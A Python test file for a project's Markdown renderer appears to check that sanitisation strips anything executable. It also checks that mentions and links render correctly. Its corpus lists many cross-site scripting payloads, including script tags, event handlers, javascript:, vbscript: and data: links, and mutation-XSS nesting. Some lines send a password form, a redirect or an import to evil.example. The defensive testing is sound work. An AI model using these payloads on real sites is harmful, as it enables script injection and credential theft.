"""What people and models write is shown, and does nothing: a corpus of what has been tried elsewhere."""

import re

import pytest

from guildhall.portal.markdown import ATTRIBUTES, TAGS, plain_excerpt, render_markdown

pytestmark = pytest.mark.unit
CORPUS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](http://tracker.example/pixel.png)",
    "[x]: javascript:alert(1)\n[x]",
    "<javascript:alert(1)>",
    "[x](http://a.example 'onmouseover=alert(1) \"x')",
    "`<script>alert(1)</script>`",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "<style>@import 'http://evil.example'</style>",
    "<form action=http://evil.example><input name=password></form>",
    "<base href=http://evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<object data=x></object><embed src=x>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "> " * 300 + "x",
    "[" * 3000,
    "*" * 3000 + "a",
    "@<script>alert(1)</script>",
]
TAG = re.compile(r"<\s*/?\s*([a-z0-9]+)((?:\s[^>]*)?)>", re.IGNORECASE)
NAMED = re.compile(r"([a-z-]+)\s*=", re.IGNORECASE)


@pytest.mark.parametrize("text", CORPUS)
def test_nothing_that_acts_gets_through(text: str) -> None:
    html = render_markdown(text, {"mason": "Mason"})
    for tag, rest in TAG.findall(html):
        assert tag.lower() in TAGS, html
        unquoted = re.sub(r'"[^"]*"', '""', rest)
        allowed = ATTRIBUTES.get(tag.lower(), set()) | ({"rel"} if tag.lower() == "a" else set())
        assert {name.lower() for name in NAMED.findall(unquoted)} <= allowed, html
    for scheme in ("javascript:", "vbscript:", "data:"):
        assert f'href="{scheme}' not in html.lower()


def test_what_is_meant_is_shown() -> None:
    html = render_markdown(
        "# Head\n**b** `@mason` @mason @masonry me@mason.example [l](https://a.example)", {"mason": "Mason"}
    )
    assert "<h3>Head</h3>" in html
    assert "<strong>b</strong> <code>@mason</code> @Mason @masonry me@mason.example" in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert render_markdown("@eve", {"eve": "<b>Eve</b>"}) == "<p>@&lt;b&gt;Eve&lt;/b&gt;</p>\n"
    assert plain_excerpt("a\n b " * 100, 10) == "a b a b a…"
